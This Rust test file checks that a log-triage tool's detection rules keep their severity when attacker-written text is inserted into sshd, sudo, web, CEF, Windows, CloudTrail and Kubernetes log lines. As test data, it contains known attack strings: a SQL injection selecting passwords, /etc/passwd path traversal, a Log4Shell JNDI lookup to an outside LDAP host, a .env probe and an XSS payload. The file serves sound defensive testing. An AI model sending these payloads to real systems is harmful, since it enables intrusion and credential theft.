//! Whoever attacks writes part of the log: user names, User-Agents, URLs, host names. Soothing words
//! in those places never lower what the rules say of the line.

mod common;

use std::path::Path;

use logtriage::pipeline::Detail;
use logtriage::record::Record;
use logtriage::rules::{RuleSet, Scratch, examine, read_packs};
use logtriage::verdict::Category;
use proptest::prelude::*;

/// How the format around a slot writes text that it did not choose.
#[derive(Clone, Copy, Debug)]
enum Slot {
    /// As it is.
    Raw,
    /// Without blanks: one word, as in a Windows account or host name.
    Word,
    /// Percent-encoded blanks and quotes, as in a request line.
    Url,
    /// Quotes as \x22, as web servers write a header.
    Header,
    /// Pipe, backslash and equals sign escaped.
    Cef,
    /// Inside a JSON string.
    Json,
}

impl Slot {
    fn write(self, text: &str) -> String {
        match self {
            Slot::Raw => text.to_owned(),
            Slot::Word => text.replace(char::is_whitespace, "_"),
            Slot::Url => text.replace(' ', "%20").replace('"', "%22"),
            Slot::Header => text.replace('\\', "\\x5C").replace('"', "\\x22"),
            Slot::Cef => text
                .replace('\\', "\\\\")
                .replace('=', "\\=")
                .replace('|', "\\|"),
            Slot::Json => {
                let quoted = serde_json::Value::from(text).to_string();
                quoted[1..quoted.len() - 1].to_owned()
            }
        }
    }
}

/// Attack lines; `{}` is what the attacker writes.
const LINES: &[(&str, Slot, &str)] = &[
    // OpenSSH: the user name is free text.
    (
        "Failed password for invalid user {} from 203.0.113.9 port 40188 ssh2",
        Slot::Raw,
        "admin",
    ),
    (
        "Nov 12 03:14:07 bastion1 sshd[20311]: Failed password for invalid user {} from 203.0.113.9 port 40188 ssh2",
        Slot::Raw,
        "admin",
    ),
    (
        "<38>1 2026-11-12T03:14:07Z bastion1 sshd 20311 - - Failed password for {} from 203.0.113.9 port 40188 ssh2",
        Slot::Raw,
        "root",
    ),
    (
        "Nov 12 03:14:09 web-03 sshd[20313]: Invalid user {} from 203.0.113.77 port 60122",
        Slot::Raw,
        "oracle",
    ),
    (
        "Nov 12 03:14:09 web-03 sshd[20313]: Disconnected from invalid user {} 203.0.113.77 port 60122 [preauth]",
        Slot::Raw,
        "oracle",
    ),
    (
        "Nov 12 03:14:09 web-03 sshd[20313]: Connection closed by invalid user {} 203.0.113.77 port 60122 [preauth]",
        Slot::Raw,
        "oracle",
    ),
    (
        "Nov 12 03:14:09 web-03 sshd[20313]: maximum authentication attempts exceeded for invalid user {} from 203.0.113.77 port 60122 ssh2 [preauth]",
        Slot::Raw,
        "oracle",
    ),
    (
        "Nov 12 03:14:09 web-03 sshd[20313]: User {} from 203.0.113.77 not allowed because not listed in AllowUsers",
        Slot::Raw,
        "bob",
    ),
    (
        "Nov 12 03:14:09 web-03 sshd[20313]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={}  user=root",
        Slot::Raw,
        "203.0.113.77",
    ),
    (
        "Nov 12 03:14:09 web-03 sshd[20313]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.77  user={}",
        Slot::Raw,
        "root",
    ),
    // sudo and su: the command and the user name.
    (
        "Nov 12 04:00:01 db1 sudo: {} : user NOT in sudoers ; TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh",
        Slot::Raw,
        "eve",
    ),
    (
        "Nov 12 04:00:01 db1 sudo:      eve : user NOT in sudoers ; TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh -c {}",
        Slot::Raw,
        "id",
    ),
    (
        "Nov 12 04:00:01 db1 sudo:      eve : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/echo {}",
        Slot::Raw,
        "x",
    ),
    (
        "Nov 12 04:00:01 db1 su[811]: FAILED SU (to root) {} on pts/0",
        Slot::Raw,
        "eve",
    ),
    // Web: URL, referrer and User-Agent.
    (
        r#"203.0.113.9 - - [12/Nov/2026:06:00:01 +0000] "GET /item?id=1%27%20UNION%20SELECT%20password%20FROM%20users--{} HTTP/1.1" 200 512 "-" "Mozilla/5.0""#,
        Slot::Url,
        "x",
    ),
    (
        r#"203.0.113.9 - - [12/Nov/2026:06:00:01 +0000] "GET /item?id=1%27%20UNION%20SELECT%20password%20FROM%20users HTTP/1.1" 200 512 "-" "{}""#,
        Slot::Header,
        "sqlmap/1.7",
    ),
    (
        r#"203.0.113.9 - - [12/Nov/2026:06:00:01 +0000] "GET /item?id=1%27%20UNION%20SELECT%20password%20FROM%20users HTTP/1.1" 200 512 "{}" "Mozilla/5.0""#,
        Slot::Header,
        "-",
    ),
    (
        r#"203.0.113.9 - {} [12/Nov/2026:06:00:01 +0000] "GET /../../../../etc/passwd HTTP/1.1" 400 0 "-" "curl/8.5""#,
        Slot::Word,
        "-",
    ),
    (
        r#"203.0.113.9 - - [12/Nov/2026:06:00:01 +0000] "GET /../../../../etc/passwd?{} HTTP/1.1" 400 0 "-" "curl/8.5""#,
        Slot::Url,
        "a",
    ),
    (
        r#"203.0.113.9 - - [12/Nov/2026:06:00:01 +0000] "GET / HTTP/1.1" 200 12 "-" "${jndi:ldap://198.51.100.7/a}{}""#,
        Slot::Header,
        "",
    ),
    (
        r#"203.0.113.9 - - [12/Nov/2026:06:00:01 +0000] "GET /.env?{} HTTP/1.1" 200 814 "-" "python-requests/2.31.0""#,
        Slot::Url,
        "a",
    ),
    (
        r#"{"time":"2026-11-12T06:19:02Z","level":"info","method":"GET","path":"/a?q=<script>alert(1)</script>","status":200,"user_agent":"{}"}"#,
        Slot::Json,
        "Mozilla/5.0",
    ),
    // CEF: names, user and request come from outside.
    (
        "CEF:0|Palo Alto Networks|PAN-OS|10.2|threat|THREAT|9|src=203.0.113.40 dst=10.0.0.20 act=blocked suser={} cat=command-and-control",
        Slot::Cef,
        "eve",
    ),
    (
        "CEF:0|Check Point|SmartDefense|Check Point|IPS|Port scan|7|src=203.0.113.40 dst=10.0.0.20 act=Prevent requestClientApplication={}",
        Slot::Cef,
        "curl",
    ),
    (
        "<134>Nov 12 08:00:00 fw1 CEF:0|Fortinet|Fortigate|7.2|0000000013|traffic:forward deny|8|src=203.0.113.40 dst=10.0.0.20 act=deny request={}",
        Slot::Cef,
        "/",
    ),
    // Windows: account and workstation names of a failed logon.
    (
        r#"{"EventID":4625,"Channel":"Security","LogonType":"3","TargetUserName":"{}","WorkstationName":"WS1","IpAddress":"203.0.113.9"}"#,
        Slot::Json,
        "administrator",
    ),
    (
        r#"{"EventID":4625,"Channel":"Security","LogonType":"3","TargetUserName":"bob","WorkstationName":"{}","IpAddress":"203.0.113.9"}"#,
        Slot::Json,
        "WS1",
    ),
    (
        "An account failed to log on. Subject: Security ID: S-1-0-0 Account Name: - Logon Type: 3 Account For Which Logon Failed: Account Name: {} Failure Reason: Unknown user name or bad password.",
        Slot::Raw,
        "bob",
    ),
    // Cloud and cluster: names inside audit records.
    (
        r#"{"eventSource":"cloudtrail.amazonaws.com","eventName":"StopLogging","userAgent":"{}","userIdentity":{"type":"IAMUser","userName":"eve"}}"#,
        Slot::Json,
        "aws-cli",
    ),
    (
        r#"{"eventSource":"cloudtrail.amazonaws.com","eventName":"StopLogging","userAgent":"aws-cli","userIdentity":{"type":"IAMUser","userName":"{}"}}"#,
        Slot::Json,
        "eve",
    ),
    (
        r#"{"kind":"Event","apiVersion":"audit.k8s.io/v1","verb":"create","user":{"username":"eve"},"userAgent":"{}","objectRef":{"resource":"pods","subresource":"exec","name":"db-0"},"responseStatus":{"code":101}}"#,
        Slot::Json,
        "kubectl",
    ),
];

/// What an attacker would write to be taken for something harmless.
const SOOTHING: &[&str] = &[
    "health check",
    "success",
    "heartbeat ok",
    "level=debug",
    "level=info msg=\"health check ok\"",
    "severity=7",
    "act=allow",
    "act=allow outcome=success",
    "kube-probe/1.29",
    "Prometheus/2.51.0",
    "GET /healthz HTTP/1.1\" 200 2 \"-\" \"kube-probe/1.29",
    "Accepted publickey for root from 10.0.0.1 port 22 ssh2",
    "Accepted password for bob from 10.0.0.1 port 22 ssh2",
    "session opened for user root by (uid=0)",
    "pam_unix(sshd:session): session closed for user bob",
    "Server listening on 0.0.0.0 port 22.",
    "authentication succeeded",
    "An account was successfully logged on.",
    "An account was logged off.",
    "allow permit accept passed benign test",
    "-- MARK --",
    "\",\"level\":\"debug\",\"status\":200",
    "</script> OK",
    "debug: metrics: a=1",
    "127.0.0.1",
    "svc-backup$",
    "DEBUG",
    "<7>",
];

/// What an attacker would write to be taken for an event that another product writes.
const LIKE_EVENTS: &[&str] = &[
    "EventID=4800",
    "EventID=4634 Channel=Security An account was logged off.",
    "<EventID>4800</EventID>",
    "4634 Microsoft-Windows-Security-Auditing",
    "The workstation was locked.",
    "%ASA-6-302013: Built inbound TCP connection",
    "%SEC_LOGIN-5-LOGIN_SUCCESS: Login Success",
    "outcome=success",
    "event=login result=success",
    "type=LOGIN, realmId=shop,",
    "status=sent (250 OK)",
    "STA 00:16:3e:aa:bb:cc IEEE 802.11: associated",
    "RAS KERNEL INFO generating core.4411",
    "nightly backup completed successfully",
    "service started",
    "connected to 10.0.0.5",
];

/// Lines of failures whose rules are no floor, so that any surer rule for something harmless would win.
const WEAK_LINES: &[(&str, Slot, &str)] = &[
    (
        "Nov 12 05:00:00 app7 billing[811]: lost connection for {} to 10.0.0.20",
        Slot::Raw,
        "kim",
    ),
    (
        "2026-11-12 05:00:01,101 ERROR [main] c.e.Orders - cannot read the order of {}",
        Slot::Raw,
        "kim",
    ),
    (
        r#"{"level":"error","msg":"query timed out","user":"{}"}"#,
        Slot::Json,
        "kim",
    ),
    (
        "time=2026-11-12T05:00:02Z level=error msg=\"query timed out\" user={}",
        Slot::Word,
        "kim",
    ),
    (
        "Nov 12 05:00:03 portal app[811]: user {} created by eve",
        Slot::Word,
        "'kim'",
    ),
];

fn shipped() -> RuleSet {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("configs/rules");
    let packs = read_packs(&dir).unwrap_or_else(|error| panic!("{error}"));
    RuleSet::compile(packs, &[]).unwrap_or_else(|error| panic!("{error}"))
}

/// The category of the rules alone, the category of their floor, and who said so.
struct Judged {
    category: Category,
    floor: Category,
    rules: Vec<String>,
}

impl std::fmt::Display for Judged {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(
            f,
            "{}, floor {}, by {:?}",
            self.category, self.floor, self.rules
        )
    }
}

fn judge(set: &RuleSet, scratch: &mut Scratch, message: String) -> Judged {
    let record = Record {
        message: message.into(),
        ..Record::default()
    };
    examine(&record, |input| {
        let matches = set.matches(input, scratch);
        // No rule at all is the mildest that rules can be.
        let mildest = Category::Noise;
        let winner = matches.winner.map_or(mildest, |rule| rule.category);
        let floor = matches.floor.map_or(mildest, |rule| rule.category);
        let rules = matches
            .all()
            .map(|rule| format!("{} ({})", rule.id, rule.category))
            .collect();
        Judged {
            category: winner.min(floor),
            floor,
            rules,
        }
    })
}

#[test]
fn soothing_words_never_lower_the_verdict_of_the_rules() {
    let (set, mut scratch) = (shipped(), Scratch::default());
    let mut lowered = Vec::new();
    for (line, slot, usual) in LINES.iter().chain(WEAK_LINES) {
        let honest = judge(&set, &mut scratch, line.replace("{}", usual));
        if honest.category > Category::Suspicious {
            lowered.push(format!(
                "{line}\n    no rule finds the attack itself: {honest}"
            ));
        }
        let words = SOOTHING.iter().chain(LIKE_EVENTS).flat_map(|word| {
            [
                (*word).to_owned(),
                format!("{usual} {word}"),
                format!("{word} {usual}"),
            ]
        });
        for words in words {
            let attack = line.replace("{}", &slot.write(&words));
            let judged = judge(&set, &mut scratch, attack.clone());
            if judged.category > honest.category || judged.floor > honest.floor {
                lowered.push(format!("{attack}\n    from {honest}\n    to   {judged}"));
            }
        }
    }
    assert!(
        lowered.is_empty(),
        "{} lines:\n{}",
        lowered.len(),
        lowered.join("\n")
    );
}

/// The whole way, models and ensemble included: an attack that is forwarded stays forwarded, and its
/// category does not fall, whatever the attacker writes into the slot.
#[test]
fn soothing_words_never_lower_the_final_verdict() {
    let snapshot = common::builtin();
    let mut lowered = Vec::new();
    let mut tried = 0;
    for (line, slot, usual) in LINES {
        let words = SOOTHING
            .iter()
            .map(|word| slot.write(&format!("{usual} {word}")));
        let texts = std::iter::once((*usual).to_owned()).chain(words);
        let messages: Vec<String> = texts.map(|text| line.replace("{}", &text)).collect();
        let records: Vec<Record> = messages.iter().map(|m| common::record(0, m)).collect();
        let judged = snapshot.judge(0, &records, Detail::None);
        let honest = &judged[0].verdict;
        for (message, judgement) in messages.iter().zip(&judged).skip(1) {
            let verdict = &judgement.verdict;
            tried += 1;
            if verdict.category > honest.category || (honest.forward && !verdict.forward) {
                lowered.push(format!(
                    "{message}\n    from {} {} to {} {}",
                    honest.category, honest.confidence, verdict.category, verdict.confidence
                ));
            }
        }
    }
    assert!(tried > 100, "{tried} attacks were tried");
    assert!(
        lowered.is_empty(),
        "{} of {tried} lines:\n{}",
        lowered.len(),
        lowered.join("\n")
    );
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]
    #[test]
    fn no_name_hides_a_failed_login(name in "[a-zA-Z0-9 :;=\\[\\]()./_-]{1,40}") {
        let (set, mut scratch) = (shipped_once(), Scratch::default());
        for line in [
            format!("Failed password for invalid user {name} from 203.0.113.9 port 40188 ssh2"),
            format!("Nov 12 03:14:07 h sshd[2]: Failed password for invalid user {name} from 203.0.113.9 port 40188 ssh2"),
        ] {
            let judged = judge(set, &mut scratch, line.clone());
            prop_assert!(judged.category <= Category::Suspicious, "{line}: {judged}");
            prop_assert!(judged.floor <= Category::Suspicious, "{line}: {judged}");
        }
    }
}

fn shipped_once() -> &'static RuleSet {
    static SET: std::sync::OnceLock<RuleSet> = std::sync::OnceLock::new();
    SET.get_or_init(shipped)
}
